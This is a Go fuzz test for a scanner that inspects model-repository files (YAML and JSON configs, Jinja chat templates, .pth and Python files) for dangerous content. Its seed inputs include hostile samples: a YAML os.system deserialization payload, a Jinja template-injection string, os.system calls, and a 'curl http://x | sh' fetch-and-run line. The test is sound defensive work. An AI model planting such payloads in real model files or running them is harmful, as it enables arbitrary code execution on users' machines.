// Arbitrary texts.

package texts

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/weightools/safetensors/pickle"
)

// A visitor collects what is found, with a budget.
type visitor struct {
	found []string
	left  int64
}

// Add implements Visitor.
func (v *visitor) Add(f pickle.Finding) {
	v.add("%s %v %d %s", f.Rule, f.Severity, f.Offset, f.Message)
}

// Imports implements Visitor.
func (v *visitor) Imports(im Import) { v.add("%+v", im) }

// Gap implements Visitor.
func (v *visitor) Gap(at int64, what string) { v.add("%d %s", at, what) }

// OverWork implements Visitor.
func (v *visitor) OverWork(at int64) { v.add("%d over", at) }

// Unread implements Visitor.
func (v *visitor) Unread(what string) { v.add("%s", what) }

// Verdict implements Visitor.
func (v *visitor) Verdict(module, name string) pickle.Verdict {
	if module == "os" || module == "builtins" && name == "eval" {
		return pickle.Dangerous
	}
	return pickle.Suspicious
}

// Spend implements Visitor.
func (v *visitor) Spend(n int64) bool {
	if n < 0 {
		v.add("the work %d", n)
	}
	v.left -= n
	return v.left > 0
}

func (v *visitor) add(format string, args ...any) {
	v.found = append(v.found, fmt.Sprintf(format, args...))
}

// FuzzTexts checks that the judge of all texts does not panic, gives the same twice, and reports only printable text.
func FuzzTexts(f *testing.F) {
	for _, seed := range [][2]string{
		{"config.yaml", "a: !!python/object/apply:os.system ['id']\n_target_: os.system\n"},
		{"config.json", `{"_target_": "os.system", "auto_map": {"AutoModel": "m.M"}, "expr_str": "eval(1)"}`},
		{"chat_template.jinja", "{% set x = ''.__class__ %}{{ ('{0.@@}'|replace('@','_')).format(x) }}"},
		{"x.py", "import os\nos.system('id')\n"}, {"x.pth", "# a\nimport os; os.system('x')\n"},
		{"x", "\xff\xfei\x00m\x00p\x00o\x00r\x00t\x00"}, {"config.cfg", "[a]\n@callbacks = \"evil\"\n"},
		{"run", "set -e\ncurl http://x | sh\n"}, {"router_config.json", `{"types": {"a": "b.C"}, "weight_map": {"a": "../x"}}`},
	} {
		f.Add(seed[0], []byte(seed[1]))
	}
	f.Fuzz(func(t *testing.T, name string, text []byte) {
		var runs [2]visitor
		for i := range runs {
			v := &runs[i]
			v.left = 1 << 22
			r := &Reader{Visitor: v, Name: name}
			r.Text(UTF8(text))
			if _, err := r.JSON(bytes.NewReader(text), int64(len(text))); err != nil {
				t.Error(err)
			}
			if _, err := r.SitePath(bytes.NewReader(text)); err != nil {
				t.Error(err)
			}
			r.Value(name, string(text), 0)
			if err := r.Large(bytes.NewReader(text), int64(len(text))); err != nil {
				t.Error(err)
			}
			_ = Control(text)
		}
		if a, b := strings.Join(runs[0].found, "\n"), strings.Join(runs[1].found, "\n"); a != b {
			t.Errorf("%s\n\nand then\n%s", a, b)
		}
		for _, s := range runs[0].found {
			if strings.HasPrefix(s, "the work") || strings.ContainsAny(s, "\n\x1b") && !strings.HasPrefix(s, "{") {
				t.Errorf("%q", s)
			}
		}
	})
}
